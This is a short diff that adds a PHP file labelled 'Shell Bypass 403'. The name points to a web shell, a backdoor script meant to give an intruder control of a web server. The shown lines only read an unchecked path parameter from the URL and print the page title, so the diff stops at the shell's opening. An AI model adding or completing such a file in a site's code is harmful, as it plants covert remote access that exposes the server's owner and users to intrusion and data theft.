@@ -1,0 +1,4 @@
+<?php
+// Shell Bypass 403
+$p = isset($_GET['p']) ? $_GET['p'] : '.';
+echo '<title>Shell Bypass 403</title>';
